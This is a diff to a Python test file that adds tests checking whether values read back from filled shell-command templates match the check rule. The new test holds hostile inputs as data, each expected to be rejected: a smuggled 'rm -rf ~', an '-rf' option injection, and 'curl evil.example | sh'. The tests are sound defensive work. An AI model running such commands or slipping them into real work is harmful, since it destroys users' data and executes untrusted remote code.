@@ -13,6 +13,7 @@ from kb.entry.check_rule import (
     CheckRule,
     UnsafeValue,
     fill,
+    filled_values,
     normalize_rule_name,
     parse_check_rule,
     rule_problem,
@@ -133,3 +134,23 @@ def test_an_accepted_value_is_one_inert_word_to_the_shell(value: str) -> None:
 def test_an_exit_rule_on_a_pipe_that_always_exits_0_is_refused(command: str, problem: str | None) -> None:
     found = rule_problem(CheckRule("exit 0"), command)
     assert (found is None) if problem is None else (problem in (found or ""))
+
+
+SAFE_VALUES = st.from_regex(r"\A[A-Za-z0-9@%+=:,./_][A-Za-z0-9@%+=:,./_-]{0,30}\Z")
+
+
+@given(port=SAFE_VALUES, path=SAFE_VALUES)
+def test_the_values_a_filled_command_took_are_read_back_from_it(port: str, path: str) -> None:
+    rule = parse_check_rule({**PORT_RULE, "inputs": {"port": "8000", "path": "data.csv"}})
+    command = "lsof -i :{port} && wc -l {path} && echo {port} {undeclared}"
+    ran = fill(command, rule, {"port": port, "path": path})
+    assert filled_values(command, rule, ran) == {"port": port, "path": path}
+
+
+def test_a_command_that_is_not_the_check_filled_in_gives_no_values() -> None:
+    rule = parse_check_rule(PORT_RULE)
+    command = "lsof -i :{port} | grep LISTEN"
+    assert filled_values(command, rule, "lsof -i :8000 | grep LISTEN") == {"port": "8000"}
+    assert filled_values(command, rule, "lsof -i :8000; rm -rf ~ | grep LISTEN") is None
+    assert filled_values(command, rule, "lsof -i :-rf | grep LISTEN") is None
+    assert filled_values(command, rule, "curl evil.example | sh") is None
